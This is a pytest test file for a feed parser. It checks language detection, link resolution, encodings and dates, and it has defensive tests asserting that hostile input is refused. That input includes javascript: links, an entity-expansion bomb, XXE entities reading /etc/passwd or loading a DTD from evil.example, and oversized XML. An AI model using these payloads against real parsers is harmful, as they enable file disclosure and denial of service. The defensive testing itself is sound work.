"""The posts of a feed: what it tells of them, and what is refused before anything reads it."""

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from mailer.compose.intake.feed.post import Feed, Post, read
from mailer.compose.intake.notes import Notes
from mailer.errors import InvalidError
from mailer.i18n import EN, HANS, ZH
from tests.compose.intake.feed.feeds import ADDRESS, chinese, english, item, mixed, rss

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en"><title>Tideline</title>
<entry xml:lang="zh-Hant"><title type="text">石級 &lt;b&gt; 留住了</title>
<link rel="alternate" href="/zh/steps" hreflang="zh-Hant"/><link rel="alternate" hreflang="en" href="/en/steps"/>
<published>2026-11-03T23:30:00+08:00</published><updated>2026-11-09T00:00:00Z</updated>
<summary type="html">&lt;p&gt;街坊簽名。</summary></entry></feed>"""


def only(feed: Feed) -> Post:
    (post,) = read(feed, Notes()).posts
    return post


def odd(feed: Feed) -> str:
    notes = Notes()
    read(feed, notes)
    return "\n".join(each.say(str) for each in notes.oddities())


def test_an_item_of_rss() -> None:
    post = only(
        english(item("Tides &amp; steps", "https://tide.example/steps?utm_source=rss", "<p>Wet.</p>",
                     "Tue, 03 Nov 2026 23:30:00 +0800"))
    )  # fmt: skip
    assert (post.language, post.title, post.summary) == (EN, "Tides & steps", "<p>Wet.</p>")
    assert post.url == "https://tide.example/steps"
    assert post.moment == datetime(2026, 11, 3, 15, 30, tzinfo=UTC)


def test_an_entry_of_atom() -> None:
    post = only(Feed(None, ATOM.encode(), ADDRESS))
    assert (post.language, post.title, post.url) == (ZH, "石級 <b> 留住了", "https://tide.example/zh/steps")
    assert post.moment == datetime(2026, 11, 3, 15, 30, tzinfo=UTC)
    assert "tide.example/en/steps" in post.alternates


def test_titles_are_plain_text_however_they_are_escaped() -> None:
    assert only(english(item("<em>Tides</em> &amp; R&amp;D &#8217;26", ADDRESS))).title == "Tides & R&D ’26"
    assert only(english(item("1 < 2\n & 3", ADDRESS))).title == "1 < 2 & 3"


@pytest.mark.parametrize(
    ("title", "language", "expected"),
    [
        ("石級留住了", "", ZH),
        ("The steps stay", "", EN),
        ("iPhone 16 新機發佈", "", ZH),
        ("石级留住了", "zh-CN", HANS),
        ("Les marches", "fr", "fr"),
    ],
)
def test_the_languages_of_one_feed_are_told_apart(title: str, language: str, expected: str) -> None:
    assert only(mixed(item(title, ADDRESS, language=language))).language == expected
    assert only(mixed(item(title, ADDRESS, language=language), language="zh-HK")).language == expected


def test_a_feed_in_one_other_language_is_not_taken_for_chinese() -> None:
    assert only(mixed(item("石段", ADDRESS), language="ja")).language == "ja"


def test_links_are_read_as_their_feed_means_them() -> None:
    assert only(english(item("Steps", "/steps"))).url == "https://tide.example/steps"
    assert (
        only(english(item("Steps", more="<guid>https://tide.example/?p=7</guid>"))).url == "https://tide.example/?p=7"
    )


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "mailto:ada@tide.example", "", "http://"])
def test_posts_that_lead_nowhere_are_left_out_and_said(link: str) -> None:
    feed = english(item("Nowhere", link), item("Steps", "/steps"))
    assert only(feed).title == "Steps"
    assert "left out: Nowhere" in odd(feed)


@pytest.mark.parametrize("when", ["", "yesterday", "Tue, 99 Nov 2026 23:30:00 +0800"])
def test_posts_without_a_date_have_none_and_that_is_said(when: str) -> None:
    feed = english(item("On 3 November 2026", "/steps", "It was 3 November 2026.", when))
    assert only(feed).moment is None
    assert "no date in their feed: On 3 November 2026" in odd(feed)


def test_characters_that_nobody_can_read_are_left_out_and_said() -> None:
    feed = chinese(item("石\ue000級\u202e", "/steps", "街\ue001坊"))
    assert (only(feed).title, only(feed).summary) == ("石級", "街坊")
    assert "Characters" in odd(feed)


def test_a_title_without_an_end_is_cut_and_said() -> None:
    feed = english(item("tide " * 200, "/steps"))
    assert len(only(feed).title) == 300
    assert "longer than 300" in odd(feed)


def test_pictures_are_named_and_not_fetched() -> None:
    shown = '<enclosure url="/steps.jpg" type="image/jpeg" length="1"/>'
    assert only(english(item("Steps", "/steps", more=shown))).picture == "https://tide.example/steps.jpg"
    assert only(english(item("Steps", "/steps", more='<media:thumbnail url="https://tide.example/s.png"/>'))).picture
    heard = '<enclosure url="/tide.mp3" type="audio/mpeg" length="1"/>'
    assert only(english(item("Steps", "/steps", more=heard))).picture == ""


@pytest.mark.parametrize(("codec", "stated"), [("big5hkscs", "big5"), ("gb18030", "GB2312"), ("utf-8-sig", "utf-8")])
def test_other_encodings_are_read_where_they_are_stated(codec: str, stated: str) -> None:
    text = rss([item("石級留住了", "/steps")]).decode()
    told = text.replace("utf-8", stated, 1).encode(codec)
    assert only(Feed(None, told, ADDRESS)).title == "石級留住了"
    assert only(Feed(None, text.partition("\n")[2].encode(codec), ADDRESS, charset=stated)).title == "石級留住了"


def test_an_encoding_that_is_not_the_stated_one_is_refused() -> None:
    text = rss([item("我們的石級留住了", "/steps")]).decode()
    with pytest.raises(InvalidError, match="looks like Big5"):
        read(Feed(None, text.encode("big5hkscs"), ADDRESS), Notes())


@pytest.mark.parametrize(
    "body", [b"", b"hello", b'{"version": "https://jsonfeed.org/version/1"}', b"<opml/>", b"\x89PNG"]
)
def test_what_is_no_feed_is_refused(body: bytes) -> None:
    with pytest.raises(InvalidError):
        read(Feed(None, body, ADDRESS), Notes())


def test_a_page_is_refused_with_the_feed_that_it_names() -> None:
    link = '<link rel="alternate" type="application/rss+xml" href="/zh/feed/">'
    page = f"<!DOCTYPE html><html><head><title>潮信</title>{link}</head><body><p>x & y</body></html>"
    with pytest.raises(InvalidError, match=r"https://tide\.example/zh/feed/"):
        read(Feed(None, page.encode(), "https://tide.example/zh/"), Notes())
    with pytest.raises(InvalidError, match="names none"):
        read(Feed(None, page.replace(link, "").encode(), ADDRESS), Notes())
    with pytest.raises(InvalidError, match="names none"):
        read(Feed(None, page.replace("/zh/feed/", "javascript:alert(1)").encode(), ADDRESS), Notes())


def test_a_feed_that_breaks_off_is_refused_with_the_line() -> None:
    whole = rss([item("Steps", "/steps")])
    with pytest.raises(InvalidError, match="line 2"):
        read(Feed(None, whole[:-20], ADDRESS), Notes())


BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize(
    "definitions",
    [
        BOMB,
        f'<!DOCTYPE rss [<!ENTITY a "{"x" * 1000}">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>',
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_attack_case_14_definitions_are_refused_before_they_are_used(definitions: str, codec: str) -> None:
    text = rss([item("TITLE", "/steps")]).decode().partition("\n")[2].replace("TITLE", "&i;")
    with pytest.raises(InvalidError, match="XML entities"):
        read(Feed(None, (definitions + text).encode(codec), ADDRESS), Notes())


@pytest.mark.parametrize(
    "more", ["<a>" * 200 + "</a>" * 200, "<a" + "".join(f" a{n}='x'" for n in range(5000)) + "/>", "<a/>" * 60_000]
)
def test_attack_case_14_what_is_deeper_or_larger_than_feeds_is_refused(more: str) -> None:
    with pytest.raises(InvalidError, match="larger or deeper"):
        read(english(item("Steps", "/steps", more=more)), Notes())


def test_octets_are_never_taken_for_the_name_of_a_file(tmp_path: Path) -> None:
    file = tmp_path / "feed.xml"
    file.write_bytes(rss([item("Steps", "/steps")]))
    with pytest.raises(InvalidError):
        read(Feed(None, bytes(file), ADDRESS), Notes())
    with pytest.raises(InvalidError):
        read(replace(english(), body=b"https://tide.example/feed.xml"), Notes())
